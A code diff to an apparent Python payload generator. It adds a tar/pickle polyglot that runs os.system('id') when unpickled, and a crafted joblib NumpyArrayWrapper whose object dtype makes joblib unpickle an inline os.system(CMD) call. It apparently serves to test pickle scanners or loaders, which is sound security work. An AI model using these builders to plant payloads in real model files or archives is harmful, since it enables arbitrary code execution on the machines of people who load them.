@@ -163,4 +163,35 @@ def polyglot(kind: str) -> bytes:
         return b"GIF89a\x00\x00\x00" + b"0" + pay
     if kind == "bmp":
         return b"BM\x00\x00\x00" + bytes(0x4D) + b"0" + pay
+    if kind == "tar":
+        return _tar_polyglot()
     raise ValueError(kind)
+
+
+def _tar_polyglot() -> bytes:
+    """A ustar archive whose first member is named ``S'``: the 512-byte header becomes one
+    quoted STRING that the member's content closes, then the content runs the payload."""
+    import io
+    import tarfile
+
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
+        data = b"'\n0" + b"cos\nsystem\n(S'id'\ntR."
+        info = tarfile.TarInfo("S'")
+        info.size = len(data)
+        tar.addfile(info, io.BytesIO(data))
+    return buf.getvalue()
+
+
+def joblib_object_array(spec: str = "object") -> bytes:
+    """A joblib NumpyArrayWrapper whose dtype is spelled ``spec``; for an object dtype
+    joblib unpickles the array inline, here a protocol-2 ``os.system`` call."""
+    p = PickleBuilder(4).proto().global_ref("joblib.numpy_pickle", "NumpyArrayWrapper").empty_tuple().newobj()
+    p.empty_dict().mark().value("subclass").global_ref("numpy", "ndarray").value("shape").value(1).tuple1()
+    p.value("order").value("C").value("dtype").global_ref("numpy", "dtype").args(spec, False, True).reduce()
+    p.mark().value(3).value("|").none().none().none().value(-1).value(-1).value(63).tuple_().build()
+    p.value("allow_mmap").newfalse().setitems().build()
+    if spec in ("float64", "<f8", "f8"):
+        return p.raw(bytes(8)).stop().bytes()
+    inner = PickleBuilder(2).proto().global_("os", "system").value(CMD).tuple1().reduce().stop().bytes()
+    return p.raw(inner).stop().bytes()
